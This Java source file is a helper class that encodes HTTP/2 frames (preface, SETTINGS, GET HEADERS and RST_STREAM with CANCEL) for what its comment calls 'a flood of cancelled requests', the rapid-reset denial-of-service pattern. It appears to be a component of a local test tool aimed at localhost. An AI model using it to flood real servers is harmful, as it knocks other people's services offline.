import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** Writes the HTTP/2 frames (RFC 9113) for a flood of cancelled requests. */
final class Http2 {
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;

    /** Flags of HEADERS: END_HEADERS and END_STREAM. */
    private static final int END = 5;

    private static final int CANCEL = 8;

    private Http2() {}

    /** The connection preface of a client with prior knowledge of HTTP/2. */
    static byte[] preface() {
        byte[] text = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
        return ByteBuffer.allocate(text.length + 9)
                .put(text)
                .put(frame(SETTINGS, 0, 0, new byte[0]))
                .array();
    }

    /** A GET with uncompressed header fields. */
    static byte[] request(int stream, String target) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(0x82); // :method GET
        block.write(0x86); // :scheme http
        block.write(0x04); // :path, without indexing
        text(block, target);
        block.write(0x01); // :authority
        text(block, "localhost");
        return frame(HEADERS, END, stream, block.toByteArray());
    }

    static byte[] reset(int stream) {
        return frame(RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array());
    }

    private static void text(ByteArrayOutputStream block, String text) {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        if (bytes.length >= 127) {
            throw new IllegalArgumentException("too long for a length of one byte: " + text);
        }
        block.write(bytes.length);
        block.writeBytes(bytes);
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
